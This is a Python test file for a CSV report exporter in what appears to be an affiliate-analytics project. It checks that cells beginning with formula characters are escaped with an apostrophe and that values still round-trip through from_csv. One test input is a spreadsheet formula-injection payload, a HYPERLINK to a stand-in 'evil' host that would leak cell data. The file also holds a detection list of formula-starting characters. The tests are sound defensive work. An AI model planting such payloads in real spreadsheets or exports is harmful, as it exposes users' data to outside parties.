"""Report CSV (`analytics.reports.to_csv`, the CLI's `report --format csv` and `--csv`):
keys and labels come from outside — partner names, sub-ID values of clicks — and a
spreadsheet runs a cell starting with = + - @ as a formula. Such a cell is written after
an apostrophe; `from_csv` gives back what the report held."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from partnerflow.analytics.reports import Report, ReportRow, from_csv, make_row, to_csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _row(key: str, label: str) -> ReportRow:
    return make_row(key, label, clicks=2, unique_clicks=2, conversions=1, refunds=0,
                    revenue=Decimal("10"), commission=Decimal("-1.50"))  # fmt: skip


def _report(key: str, label: str) -> Report:
    day = date(2026, 3, 1)
    return Report("sub1", "EUR", "UTC", day, day, (_row(key, label),), _row("total", "Total"))


def _cells(text: str) -> list[str]:
    return list(csv.reader(io.StringIO(text)))[1]


def test_formulas_from_a_click_or_a_signup_are_not_formulas_in_the_export() -> None:
    key, label = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"
    text = to_csv(_report(key, label))
    cells = _cells(text)
    assert (cells[0], cells[1]) == ("'" + key, "'" + label)  # was: the formula itself
    [row, _total] = from_csv(text)
    assert (row["key"], row["label"], row["commission"]) == (key, label, "-1.50")


# What is stored: sub-ID values and names hold no control characters (`core.text`), but a
# tab would start a formula too.
SHOWN = st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1)


@given(st.one_of(SHOWN, st.just("\tx")), SHOWN)
def test_keys_and_labels_round_trip_and_never_start_a_formula(key: str, label: str) -> None:
    text = to_csv(_report(key, label))
    cells = _cells(text)
    assert not cells[0].startswith(FORMULA_STARTS) and not cells[1].startswith(FORMULA_STARTS)
    [row, _total] = from_csv(text)
    assert (row["key"], row["label"]) == (key, label)
